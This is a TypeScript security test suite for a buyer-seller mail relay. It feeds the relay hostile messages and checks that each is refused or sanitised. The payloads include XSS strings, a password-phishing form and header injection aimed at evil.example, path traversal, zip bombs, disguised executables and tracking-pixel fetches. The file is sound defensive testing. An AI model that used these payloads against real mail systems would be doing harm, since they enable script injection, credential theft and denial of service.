import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { monitorEventLoopDelay } from 'node:perf_hooks';
import { after, test } from 'node:test';

import PostalMime from 'postal-mime';

import { writeZip } from '#mail/files/zip.ts';
import { introduce, personOf, zoneOf } from '#test/support/canary-people.ts';
import { startTestRelay } from '#test/support/test-relay.ts';
import type { Arrived } from '#test/support/test-relay.ts';
import { findMessage } from '#views/messages.ts';

// Content that means harm (threats, section 3), from a seller in good standing to a buyer, through the whole relay.

const couple = { buyer: personOf('buyer', 0), seller: personOf('seller', 0) };
const relay = await startTestRelay({ guidelines: 'lenient', zone: zoneOf([couple.buyer, couple.seller]) });
after(() => relay.stop());
const [pair] = await introduce(relay, [couple]);
assert.ok(pair !== undefined);

/** Counts who fetches what; nobody should. */
const fetched: string[] = [];
const listener = createServer((request, response) => {
  fetched.push(request.url ?? '');
  response.end();
});
await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
after(() => listener.close());
const web = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;

let serial = 0;

/** A mail of the seller with these header lines after its own, and this body. */
function mail(headers: readonly string[], body: string | Buffer): Buffer {
  serial += 1;
  const own = headers.some((line) => /^subject:/iu.test(line)) ? [] : [`Subject: Case ${serial}`];
  const head = [
    `From: ${couple.seller.address}`,
    `To: <${pair!.buyerAlias}>`,
    ...own,
    `Message-ID: <${serial}@client.example>`,
    'Date: Sun, 01 Mar 2026 12:00:00 +0100',
    'MIME-Version: 1.0',
    ...headers,
    '',
    '',
  ].join('\r\n');
  return Buffer.concat([Buffer.from(head), Buffer.from(body), Buffer.from('\r\n')]);
}

const MIXED = 'Content-Type: multipart/mixed; boundary=cut';
const HTML = 'Content-Type: text/html; charset=utf-8';
const part = (headers: string, body: string): string => `--cut\r\n${headers}\r\n\r\n${body}\r\n`;
const words = part('Content-Type: text/plain', 'See below.');
const file = (type: string, name: string, bytes: Buffer | string): string =>
  part(
    `Content-Type: ${type}\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="${name}"`,
    Buffer.from(bytes)
      .toString('base64')
      .replaceAll(/(.{76})/gu, '$1\r\n'),
  );
const mixed = (...parts: string[]): Buffer => mail([MIXED], `${parts.join('')}--cut--`);

type Fate =
  | { readonly kind: 'reply'; readonly reply: string }
  | { readonly kind: 'refused'; readonly codes: readonly string[] }
  | { readonly kind: 'relayed'; readonly arrived: Arrived };

/** Sends it and waits for what becomes of it. */
async function fateOf(raw: Buffer): Promise<Fate> {
  const reply = await relay.send({ from: couple.seller.address, to: pair!.buyerAlias, raw });
  const id = /Taken as (\S+)/u.exec(reply)?.[1];
  if (id === undefined) return { kind: 'reply', reply };
  const message = await findMessage(relay.database.db, { kind: 'operator' }, id);
  assert.ok(message);
  if (message.state === 'refused') {
    // The author hears of it by mail, in words.
    const notice = await relay.provider.next(couple.seller.address);
    assert.doesNotMatch(notice.mail.text ?? '', /refusal\./u);
    return { kind: 'refused', codes: message.reasons.map(({ code }) => code) };
  }
  const arrived = await relay.provider.next(couple.buyer.address);
  await assertOneReading(arrived);
  return { kind: 'relayed', arrived };
}

async function relayed(raw: Buffer): Promise<Arrived> {
  const fate = await fateOf(raw);
  if (fate.kind !== 'relayed') throw new Error(`not relayed: ${JSON.stringify(fate)}`);
  return fate.arrived;
}

const ALLOWED_FIELDS = new Set(
  'from to subject date message-id in-reply-to references mime-version content-type content-transfer-encoding dkim-signature feedback-id list-unsubscribe list-unsubscribe-post x-parley-hop x-parley-conversation x-parley-message x-parley-order auto-submitted'.split(
    ' ',
  ),
);

/** C1, C3: two parsers read the same of what leaves, and its header has our own fields alone, each once. */
async function assertOneReading({ raw, mail: ours }: Arrived): Promise<void> {
  const theirs = await PostalMime.parse(raw, { attachmentEncoding: 'arraybuffer' });
  const squeeze = (text: string | null | undefined): string => (text ?? '').replaceAll(/\s+/gu, ' ').trim();
  assert.equal(squeeze(theirs.text), squeeze(ours.text));
  if (ours.html !== null) assert.equal(squeeze(theirs.html), squeeze(ours.html));
  assert.equal(theirs.subject ?? '', ours.subject);
  assert.deepEqual(
    theirs.attachments.map(({ filename, content }) => [
      filename,
      Buffer.from(content as ArrayBuffer).toString('hex'),
    ]),
    ours.parts.map(({ fileName, bytes }) => [fileName, Buffer.from(bytes).toString('hex')]),
  );
  const names = ours.headers.map(({ name }) => name);
  assert.deepEqual(
    names.filter((name) => !ALLOWED_FIELDS.has(name)),
    [],
  );
  assert.equal(new Set(names).size, names.length, names.join());
}

// ---------------------------------------------------------------- C1, C2

const AMBIGUOUS: readonly (readonly [string, Buffer])[] = [
  ['two Content-Type fields', mail([MIXED, 'Content-Type: text/plain'], `${words}--cut--`)],
  [
    'two boundary parameters',
    mail(
      ['Content-Type: multipart/mixed; boundary=cut; boundary=other'],
      `${words}--other\r\n\r\nHidden\r\n--other--\r\n--cut--`,
    ),
  ],
  [
    'a boundary in RFC 2231 pieces',
    mail(
      ['Content-Type: multipart/mixed; boundary*0=cu; boundary*1=t; boundary=x'],
      `${words}--x\r\n\r\nHidden\r\n--x--\r\n--cut--`,
    ),
  ],
  [
    'a boundary in an encoded word',
    mail(
      [`Content-Type: multipart/mixed; boundary="=?utf-8?Q?cut?="`],
      `${words}--=?utf-8?Q?cut?=\r\n\r\nHidden\r\n--=?utf-8?Q?cut?=--`,
    ),
  ],
  [
    'a comment in a parameter name',
    mail(
      ['Content-Type: multipart/mixed; boun(x)dary=cut; boundary=y'],
      `${words}--y\r\n\r\nHidden\r\n--y--`,
    ),
  ],
  [
    'two transfer encodings',
    mail(
      ['Content-Type: text/plain', 'Content-Transfer-Encoding: base64', 'Content-Transfer-Encoding: 7bit'],
      'SGVsbG8gd29ybGQ=',
    ),
  ],
  [
    'a transfer encoding on a multipart',
    mail([MIXED, 'Content-Transfer-Encoding: base64'], Buffer.from(`${words}--cut--`).toString('base64')),
  ],
  [
    'base64 with text after its end',
    mail(['Content-Type: text/plain', 'Content-Transfer-Encoding: base64'], 'SGVsbG8=\r\nSGlkZGVu\r\n!!!!'),
  ],
  [
    'two file names',
    mixed(
      words,
      part(
        'Content-Type: text/plain; name=a.txt\r\nContent-Disposition: attachment; filename="b.txt"; filename="c.exe"',
        'x',
      ),
    ),
  ],
  ['no closing boundary', mail([MIXED], words)],
  ['words before and after the parts', mail([MIXED], `Hidden before\r\n${words}--cut--\r\nHidden after`)],
  ['a part without a header', mail([MIXED], `--cut\r\n\r\nBare words\r\n${words}--cut--`)],
  [
    'a header without its empty line',
    mail([MIXED], `--cut\r\nContent-Type: text/plain\r\nWords at once\r\n--cut--`),
  ],
];

for (const [name, raw] of AMBIGUOUS)
  test(`C1: ${name}: refused, or one reading leaves`, async () => {
    const fate = await fateOf(raw);
    if (fate.kind === 'reply') assert.match(fate.reply, /^55\d/u);
  });

const LIMITED: readonly (readonly [string, () => Buffer])[] = [
  [
    '10,000 nested multiparts',
    () =>
      mail(
        [MIXED],
        Array.from(
          { length: 10_000 },
          (_, i) =>
            `--${i === 0 ? 'cut' : `b${i - 1}`}\r\nContent-Type: multipart/mixed; boundary=b${i}\r\n\r\n`,
        ).join(''),
      ),
  ],
  ['100,000 parts', () => mail([MIXED], `${'--cut\r\n\r\nx\r\n'.repeat(100_000)}--cut--`)],
  ['message/partial', () => mail(['Content-Type: message/partial; id=x; number=1; total=2'], 'half')],
  [
    'message/external-body',
    () =>
      mixed(
        words,
        part(
          `Content-Type: message/external-body; access-type=URL; URL="${web}/body"`,
          'Content-Type: text/plain\r\n',
        ),
      ),
  ],
  ['100,000 header fields', () => mail(['X: y\r\n'.repeat(100_000).trimEnd()], 'x')],
];

for (const [name, make] of LIMITED)
  test(`C2: ${name}: refused in the dialogue`, async () => {
    const start = performance.now();
    const fate = await fateOf(make());
    assert.equal(fate.kind, 'reply', JSON.stringify(fate.kind));
    assert.match(fate.kind === 'reply' ? fate.reply : '', /^55[24] 5\.(?:6|3)\./u);
    console.log(`  ${name}: ${Math.round(performance.now() - start)} ms`);
  });

// ---------------------------------------------------------------- C3

test('C3: a subject of two lines is one line, a file name is one name', async () => {
  const subject = '=?utf-8?Q?Hello=0D=0ABcc:_x=40evil.example=0D=0A=0D=0A<script>?=';
  const name = "filename*=utf-8''a%0D%0AContent-Type:%20text/html%0D%0A%00..%2F..%2Fb.txt";
  serial += 1;
  const raw = mail(
    [`Subject: ${subject}`, MIXED],
    `${words}--cut\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; ${name}\r\n\r\nx\r\n--cut--`,
  );
  const { mail: seen } = await relayed(raw);
  assert.match(seen.subject, /^Hello\s?Bcc: x@evil\.example/u);
  assert.equal(seen.parts.length, 1);
  assert.doesNotMatch(seen.parts[0]?.fileName ?? '', /[\r\n\0/\\]/u);
});

// ---------------------------------------------------------------- C4, C5

const zeros = Buffer.alloc(40_000_000);
const docx = (...more: { name: string; bytes: Buffer }[]): Buffer =>
  writeZip([
    {
      name: '[Content_Types].xml',
      bytes: Buffer.from(
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
      ),
    },
    { name: 'word/document.xml', bytes: Buffer.from('<?xml version="1.0"?><w:document xmlns:w="w"/>') },
    ...more,
  ]);
const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

const REFUSED: readonly (readonly [string, string, () => Buffer])[] = [
  [
    'C4: a document that grows a thousandfold',
    'bomb',
    () => mixed(words, file(WORD, 'a.docx', docx({ name: 'word/media/a.bin', bytes: zeros }))),
  ],
  [
    'C4: a ZIP in a ZIP',
    'archive',
    () =>
      mixed(
        words,
        file(
          'application/zip',
          'a.zip',
          writeZip([
            { name: 'b.zip', bytes: Buffer.from(writeZip([{ name: 'c', bytes: zeros.subarray(0, 1000) }])) },
          ]),
        ),
      ),
  ],
  [
    'C5: a program by its content',
    'program',
    () =>
      mixed(
        words,
        file(
          'image/png',
          'photo.png',
          Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), Buffer.alloc(200)]),
        ),
      ),
  ],
  ['C5: a program by its name', 'program', () => mixed(words, file('text/plain', 'invoice.pdf.exe', 'text'))],
  [
    'C5: a program whose name reads backwards',
    'program',
    () =>
      mixed(
        words,
        part(
          "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe",
          'x',
        ),
      ),
  ],
  [
    'C13: S/MIME for somebody else',
    'encrypted',
    () =>
      mail(
        [
          'Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m',
          'Content-Transfer-Encoding: base64',
        ],
        Buffer.from('30800606092a864886f70d010703a0800000', 'hex').toString('base64'),
      ),
  ],
  [
    'C13: PGP/MIME',
    'encrypted',
    () =>
      mail(
        ['Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=cut'],
        `${part('Content-Type: application/pgp-encrypted', 'Version: 1')}${part('Content-Type: application/octet-stream', '-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA\r\n-----END PGP MESSAGE-----')}--cut--`,
      ),
  ],
  [
    'C13: PGP in the text',
    'encrypted',
    () =>
      mail(
        ['Content-Type: text/plain'],
        '-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA0000000000000AAAA\r\n=abcd\r\n-----END PGP MESSAGE-----',
      ),
  ],
];

for (const [name, code, make] of REFUSED)
  test(`${name} is refused, and its author told`, async () => {
    assert.deepEqual(await fateOf(make()), { kind: 'refused', codes: [code] });
  });

test('C5: a file is what its content is, under a name that says so', async () => {
  const { mail: seen } = await relayed(
    mixed(
      words,
      file('image/png', '../../etc/passwd', 'root:x:0:0'),
      file('application/pdf', 'report.pdf', 'only words'),
    ),
  );
  assert.deepEqual(
    seen.parts.map(({ fileName, mediaType }) => [/[/\\]|\.\./u.test(fileName ?? ''), mediaType]),
    [
      [false, 'text/plain'],
      [false, 'text/plain'],
    ],
  );
});

test('C5: SVG and HTML files carry no script to the other side', async () => {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${web}/svg')"><script>alert(1)</script></svg>`;
  for (const [type, name, bytes] of [
    ['image/svg+xml', 'a.svg', svg],
    ['text/html', 'a.html', `<script src="${web}/x.js"></script>`],
  ] as const) {
    const fate = await fateOf(mixed(words, file(type, name, bytes)));
    if (fate.kind !== 'relayed') continue;
    for (const { bytes: sent } of fate.arrived.mail.parts)
      assert.doesNotMatch(Buffer.from(sent).toString('latin1'), /<script|onload/iu);
  }
});

test('C13: signed mail is unwrapped: the words go, signature and certificate stay', async () => {
  const raw = mail(
    ['Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary=cut'],
    `${part('Content-Type: text/plain', 'Signed words.')}${file('application/pkcs7-signature; name=smime.p7s', 'smime.p7s', 'CERTIFICATE-OF-THE-SELLER')}--cut--`,
  );
  const { mail: seen, raw: sent } = await relayed(raw);
  assert.match(seen.text ?? '', /^Signed words\./u);
  assert.deepEqual(seen.parts, []);
  // The file's name with its dot: three letters alone may well stand in a DKIM signature.
  assert.doesNotMatch(sent.toString('latin1'), /application\/pkcs7|smime\.p7s/iu);
});

// ---------------------------------------------------------------- C6, C7, C8

const SCRIPTS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<div style="width:expression(alert(1))">x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script>',
  '<details open ontoggle=alert(1)>x</details>',
];
const ACTIVE =
  /<\/?(?:script|iframe|object|embed|form|input|button|meta http|svg|math|base|link|noscript|textarea)\b|\son\w+\s*=|javascript:|expression\(|srcdoc/iu;

test('C6: no script, form or frame reaches the other side, from the body, the subject or a name', async () => {
  for (const attack of SCRIPTS) {
    const { mail: seen } = await relayed(
      mail(
        [HTML, `Subject: ${serial} ${attack.slice(0, 60).replaceAll(/[^ -~]/gu, '')}`],
        `<p>Hello</p>${attack}<p>Bye</p>`,
      ),
    );
    const html = (seen.html ?? '').replace('<meta charset="utf-8">', '');
    assert.doesNotMatch(html, ACTIVE, attack);
    assert.match(html, /Hello/u);
  }
});

const REMOTE = [
  `<style>@import url(${web}/a.css); body { background: url('${web}/b.png') }</style>`,
  `<div style="background:url(${web}/c.png); list-style-image: image-set('${web}/d.png' 1x)">x</div>`,
  `<img src="${web}/e.png" srcset="${web}/f.png 2x">`,
  `<link rel="prefetch" href="${web}/g"><link rel=stylesheet href="${web}/h.css">`,
  `<video poster="${web}/i.png" src="${web}/j.mp4" autoplay></video><audio src="${web}/k.mp3"></audio>`,
  `<table background="${web}/l.png"><tr><td background="${web}/m.png">x</td></tr></table>`,
  `<svg><use href="${web}/n.svg#x"/><image href="${web}/o.png"/></svg>`,
  `<style>@font-face { font-family: x; src: url(${web}/p.woff) }</style><p style="font-family:x">x</p>`,
  `<object data="${web}/q"></object><embed src="${web}/r"><iframe src="${web}/s"></iframe>`,
  `<a href="https://shop.example/" ping="${web}/t">x</a><base href="${web}/">`,
  `<img src="//127.0.0.1/u.png"><img src="cid:other@elsewhere.example">`,
];

test('C7: nothing is fetched, and nothing leaves that a mail program would fetch', async () => {
  for (const remote of REMOTE) {
    const { mail: seen } = await relayed(mail([HTML], `<p>Hello</p>${remote}`));
    assert.doesNotMatch(
      seen.html ?? '',
      /127\.0\.0\.1|url\(|@import|srcset|image-set|<(?:link|video|audio|base|svg|object)\b/iu,
      remote,
    );
  }
  assert.deepEqual(fetched, []);
});

const HIDDEN = [
  '<div style="display:none">SECRET</div>',
  '<span style="font-size:0">SECRET</span>',
  '<span style="color:#fff;background:#fff">SECRET</span>',
  '<div style="position:absolute;left:-9999px">SECRET</div>',
  '<style>.k{display:none} .moz-text-html .k{display:block}</style><div class="k">SECRET</div>',
  '<div style="max-height:0;overflow:hidden">SECRET</div>',
  '<div style="opacity:0">SECRET</div>',
  '<!-- SECRET --><div hidden>SECRET</div>',
];

test('C8: the text that is read is the text that is sent: hidden words are in both forms or in none', async () => {
  for (const hidden of HIDDEN) {
    const { mail: seen } = await relayed(mail([HTML], `<p>Hello</p>${hidden}<p>Bye</p>`));
    const inHtml = (seen.html ?? '').includes('SECRET');
    assert.equal((seen.text ?? '').includes('SECRET'), inHtml, hidden);
    assert.doesNotMatch(seen.html ?? '', /display:\s*none|position|opacity|class=|hidden/iu, hidden);
  }
});

// ---------------------------------------------------------------- C9, C10, C11

const CHARSETS: readonly (readonly [string, Buffer, string])[] = [
  ['UTF-7', Buffer.from('<p>x +ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>'), 'utf-7'],
  [
    'ISO-2022-JP with escapes',
    Buffer.from('<p>\x1b$B%3%s\x1b(B <im\x1b(Bg src=x on\x1b(Berror=alert(1)></p>', 'latin1'),
    'iso-2022-jp',
  ],
  [
    'overlong UTF-8',
    Buffer.from([
      0x3c, 0x70, 0x3e, 0xc0, 0xbc, 0x73, 0x63, 0x72, 0x69, 0x70, 0x74, 0xc0, 0xbe, 0x3c, 0x2f, 0x70, 0x3e,
    ]),
    'utf-8',
  ],
  ['UTF-16 under the name of UTF-8', Buffer.from('<p>x</p><script>alert(1)</script>', 'utf16le'), 'utf-8'],
  ['an unknown charset', Buffer.from('<p>x</p><script>alert(1)</script>'), 'x-nonsense'],
];

test('C9: whatever the charset was, UTF-8 leaves, and nothing that turns into markup', async () => {
  for (const [name, body, charset] of CHARSETS) {
    const raw = mail(
      [`Content-Type: text/html; charset=${charset}`, 'Content-Transfer-Encoding: base64'],
      body.toString('base64'),
    );
    const fate = await fateOf(raw);
    if (fate.kind !== 'relayed') continue;
    const { raw: sent, mail: seen } = fate.arrived;
    assert.doesNotMatch((seen.html ?? '').replace('<meta charset="utf-8">', ''), ACTIVE, name);
    const charsets = [
      ...sent
        .toString('latin1')
        .replaceAll('=3D', '=')
        .matchAll(/charset=["']?([\w-]+)/giu),
    ].map(([, found]) => found?.toLowerCase());
    assert.ok(
      charsets.every((found) => found === 'utf-8' || found === 'us-ascii'),
      charsets.join(),
    );
  }
});

const COSTLY: readonly (readonly [string, () => Buffer])[] = [
  [
    '10,000 nested messages',
    () => mail(['Content-Type: message/rfc822'], 'Content-Type: message/rfc822\r\n\r\n'.repeat(10_000)),
  ],
  ['a header of 300 KB without @', () => mail([`Cc: ${`${'a, '.repeat(300)}\r\n `.repeat(330)}x`], 'Hello')],
  ['100,000 comments', () => mail([`Cc: ${`${'(x)'.repeat(300)}\r\n `.repeat(334)}a@b.example`], 'Hello')],
  [
    '1 MB of >',
    () => mail(['Content-Type: text/plain'], `Hello\r\n${`${'>'.repeat(990)}\r\n`.repeat(1000)}`),
  ],
  [
    '30,000 quoted levels and words',
    () =>
      mail(
        ['Content-Type: text/plain'],
        Array.from({ length: 3000 }, (_, i) => `${'>'.repeat(i % 900)} On Mon, x <a@b.example> wrote:`).join(
          '\r\n',
        ),
      ),
  ],
  ['20,000 nested elements', () => mail([HTML], `Hello${'<div><blockquote>\r\n'.repeat(20_000)}`)],
  ['500,000 attributes', () => mail([HTML], `Hello<p ${'a=1 b=2 c=3\r\n'.repeat(40_000)}>x</p>`)],
  ['a table of 50,000 cells', () => mail([HTML], `Hello<table>${'<tr><td>x\r\n'.repeat(50_000)}`)],
  [
    '30,000 addresses of the author',
    () => mail(['Content-Type: text/plain'], `${`${couple.seller.address} `.repeat(30)}\r\n`.repeat(1000)),
  ],
  [
    '20,000 style rules',
    () =>
      mail(
        [HTML],
        `<style>${'.a .b > .c + .d { color: red }\r\n'.repeat(20_000)}</style><p class=a>Hello</p>`,
      ),
  ],
  [
    '5,000 encoded words in a subject',
    () => mail([`Subject: ${'=?utf-8?Q?a?=\r\n '.repeat(5000)}x`], 'Hello'),
  ],
];

/** Lets an hour pass for what was written so far: the breaker counts how much one writes in ten minutes. */
async function anHourLater(): Promise<void> {
  await relay.database.pool.query(`update message set received_at = received_at - interval '1 hour'`);
}

for (const [name, make] of COSTLY)
  test(`C10: ${name} ends in one state`, async () => {
    const raw = make();
    await anHourLater();
    const turns = monitorEventLoopDelay({ resolution: 5 });
    turns.enable();
    const start = performance.now();
    const reply = await relay.send({ from: couple.seller.address, to: pair.buyerAlias, raw });
    turns.disable();
    assert.match(reply, /^(?:250|55\d) /u);
    console.log(
      `  ${name}: ${raw.length} octets, ${Math.round(performance.now() - start)} ms, longest turn ${Math.round(turns.max / 1e6)} ms: ${reply.slice(0, 60)}`,
    );
  });

test('C11: fields and parameters with the names of object properties', async () => {
  await anHourLater();
  relay.provider.arrived.delete(couple.buyer.address);
  const odd = ['__proto__', 'constructor', 'hasOwnProperty', 'toString', 'prototype'];
  const raw = mail(
    [
      ...odd.map((name) => `${name}: polluted`),
      `Content-Type: text/plain; ${odd.map((name) => `${name}=polluted`).join('; ')}`,
    ],
    'Odd words.',
  );
  const reply = await relay.send({ from: couple.seller.address, to: pair.buyerAlias, raw });
  assert.match(reply, /^250/u);
  for (;;) {
    // Mails of the cases before may still arrive.
    const { mail: seen, raw: sent } = await relay.provider.next(couple.buyer.address);
    if (!(seen.text ?? '').startsWith('Odd words.')) continue;
    assert.doesNotMatch(sent.toString('latin1'), /polluted/u);
    break;
  }
  assert.equal(({} as Record<string, unknown>)['polluted'], undefined);
});
